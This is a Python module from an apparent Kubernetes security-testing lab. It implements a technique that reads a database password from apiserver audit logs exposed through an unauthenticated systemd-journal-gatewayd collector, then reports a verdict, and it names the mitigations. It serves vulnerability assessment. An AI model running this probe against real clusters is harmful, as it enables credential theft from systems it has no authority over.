"""Read a secret in the audit log, in a log store that is open to the network.

A policy at the level RequestResponse writes the answers of the apiserver into its audit log, and
with them every secret that somebody reads. The log is sent to a collector, which keeps it longer
than the cluster keeps the secret, and more people read it. The attacker needs a foothold on the
cluster network, and asks the collector's systemd-journal-gatewayd. Levels that leave out bodies
stop it, and so does a store that is not served to everybody. Encryption at rest does not: the
apiserver decrypts what it answers.
"""

from __future__ import annotations

import json
import secrets
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.cluster.audit_policy import AuditedRequest
from labkit.errors import ProbeError
from labkit.lab.curl import as_curl
from labkit.model import Foothold, Model, read_model
from labkit.model.collected_logs import answers_in_events, events_are_sent
from labkit.techniques._lib.api.access import apiserver_of
from labkit.techniques._lib.api.ask import first_refusal, url_of
from labkit.techniques._lib.machines.reach import Answer, request, run
from labkit.techniques._lib.machines.waiting import wait_for
from labkit.techniques._lib.stores.journal import (
    COLLECTOR,
    MODES,
    PATIENCE,
    master_of,
    wait_for_entry,
)
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import (
    NETWORK,
    SECRETS,
    Prediction,
    Technique,
    all_of,
    any_of,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

CHANNEL = "anyone@network -> systemd-journal-gatewayd@*"
#: Where it serves if nothing says otherwise, and what the attacker asks for: the last entries of
#: the apiserver, as they are stored.
STORE = f"http://{COLLECTOR}:19531"
ENTRIES = "/entries?_SYSTEMD_UNIT=kube-apiserver.service"
OPTIONS = (
    *("--header", "Accept: application/vnd.fdo.journal"),
    *("--header", "Range: entries=:-400:400"),
)
SECRET = ("shop", "db-credentials", "password")
PATH = f"/api/v1/namespaces/{SECRET[0]}/secrets/{SECRET[1]}"
READ = AuditedRequest("get", "secrets", namespace=SECRET[0], name=SECRET[1])
FIELD = b"MESSAGE="


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether the store is open, and whether its events have answers in them."""
    env, apiserver = model.environment, apiserver_of(model.environment)
    found = model.open_channels(CHANNEL)
    if not found:
        closed = tuple(str(it.encryption) for it in model.closed_channels(CHANNEL))
        return Prediction(False, closed or (f"the model has no channel {CHANNEL}",))
    return all_of(
        any_of(
            *(
                first_refusal(
                    (it.client_authentication, ("none",)), (it.authorization, ("allow-all",))
                )
                for it in found
            )
        ),
        holds(events_are_sent(env, apiserver), "sent"),
        holds(answers_in_events(env, apiserver, READ), "bodies"),
    )


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Have the administrator read a secret, and look for it in the collector's store.

    Raises
    ------
    ProbeTimeout
        The event of the administrator's request is not in the store.
    ProbeError
        The store's answer is neither the event nor a known refusal.
    """
    secret = true_secret(lab, *SECRET)
    found = read_model(lab.environment).open_channels(CHANNEL)
    url = url_of(found[0], ENTRIES) if found else f"{STORE}{ENTRIES}"
    ident = _read_by_administrator(lab)
    asked = "asked the collector for the last entries of the apiserver"

    def look() -> Answer | None:
        answer = request(lab, url, foothold=foothold, options=OPTIONS)
        return answer if answer.refusal or ident.encode() in answer.body else None

    answer = wait_for(lab, look, PATIENCE, "the event of a request is not in the store")
    if answer.refusal:
        if answer.refusal not in ("connection refused", "HTTP 401"):
            raise ProbeError(f"{TECHNIQUE.name}: {answer.refusal} is no known refusal")
        wait_for_entry(lab, ident)
        control = "the collector has the event of the administrator's request"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, False, answer.refusal, (asked,), control)
    line = next(line for line in answer.body.split(b"\n") if ident.encode() in line)
    if secret.found_in(line):
        reason = "the store is open, and the event has the answer in it"
        evidence = (asked, f"read: {secret.proof}")
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, evidence)
    level = _level(line)
    if level == "RequestResponse":
        raise ProbeError(f"{TECHNIQUE.name}: the event has an answer, but not the secret")
    reason = f"the store is open, but its events have no answers: level {level}"
    control = "the event of the administrator's request is in the store, without a body"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)


def _read_by_administrator(lab: Lab) -> str:
    """Read the secret as the administrator, and return the audit id of the request."""
    ident = f"labkit-read-{secrets.token_hex(8)}"
    argv = [*as_curl(lab.environment, "GET", PATH), "--header", f"Audit-ID: {ident}"]
    run(lab, master_of(lab.environment), [*argv, "--output", "/dev/null"], check=True)
    return ident


def _level(line: bytes) -> str:
    """Return the level of the audit event in a line of the journal.

    Raises
    ------
    ProbeError
        It is no event.
    """
    try:
        event = json.loads(line.removeprefix(FIELD))
        return str(event["level"])
    except (ValueError, LookupError, TypeError) as error:
        raise ProbeError(f"{TECHNIQUE.name}: a line of the store is no event") from error


def _settings(env: Environment) -> list[Setting]:
    apiserver = apiserver_of(env)
    answers = answers_in_events(env, apiserver, READ)
    found = [("answers in audit events", answers.value, str(answers.source))]
    for channel in read_model(env).open_channels(CHANNEL):
        claim = channel.client_authentication
        found.append(("client authentication of the log store", claim.value, str(claim.source)))
    return found


TECHNIQUE = Technique(
    name="read-secrets-in-logs",
    title="Read a secret in the audit log of an open log store",
    footholds=(NETWORK,),
    grants=(SECRETS,),
    # a cluster without such a server has no channel to it
    about="",
    properties=(),
    attack=("T1552.001",),
    stride=("information disclosure",),
    cwe=("CWE-532", "CWE-306"),
    sources=(
        "https://kubernetes.io/docs/tasks/debug/debug-cluster/audit/",
        "https://www.freedesktop.org/software/systemd/man/latest/systemd-journal-gatewayd.service.html",
        "https://attack.mitre.org/techniques/T1552/001/",
    ),
    predict=predict,
    execute=execute,
    settings=_settings,
    machines=(COLLECTOR,),
    modes=MODES,
)
